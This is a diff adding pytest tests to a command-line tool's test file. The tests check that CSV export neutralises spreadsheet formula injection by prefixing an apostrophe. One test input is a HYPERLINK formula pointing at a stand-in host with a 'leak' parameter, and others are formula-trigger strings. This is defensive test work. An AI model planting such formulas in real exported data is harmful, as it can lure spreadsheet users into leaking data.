@@ -212,6 +212,24 @@ def test_markdown_escape_keeps_any_text_as_text(text):
         assert "".join(shown) == text
 
 
+@pytest.mark.parametrize(
+    "note", ['=HYPERLINK("http://x.invalid/?leak","点我")', "+1+1", "-1+1", "@SUM(1,1)", "\t=1", "＝1+1", "'=1+1"]
+)
+def test_csv_never_hands_a_spreadsheet_a_formula(cli, data_dir, note):
+    data = ("--data", str(data_dir))
+    assert run(cli, "progress", "add", "9", "--date", "2025-09-01", f"--note={note}", *data)
+    [row] = list(csv.DictReader(io.StringIO(run(cli, "progress", "list", "-f", "csv", *data))))
+    assert row["note"] == "'" + note  # OWASP's apostrophe, before any already there
+    assert row["note"][1:] == note  # what a script takes off to have the note back
+
+
+def test_csv_writes_numbers_as_numbers_and_guards_text_alone():
+    listing = Listing(
+        "things", ("gap", "text"), ("gap", "text"), [{"gap": -3, "text": "-3"}, {"gap": 2, "text": "a-3"}]
+    )
+    assert render(listing, OutputFormat.csv).splitlines()[1:] == ["-3,'-3", "2,a-3"]
+
+
 def test_xlsx_keeps_fractions_as_numbers(tmp_path):
     listing = Listing("targets", ("level", "progress"), ("level", "progress"), [{"level": "local", "progress": 0.25}])
     target = tmp_path / "t.xlsx"
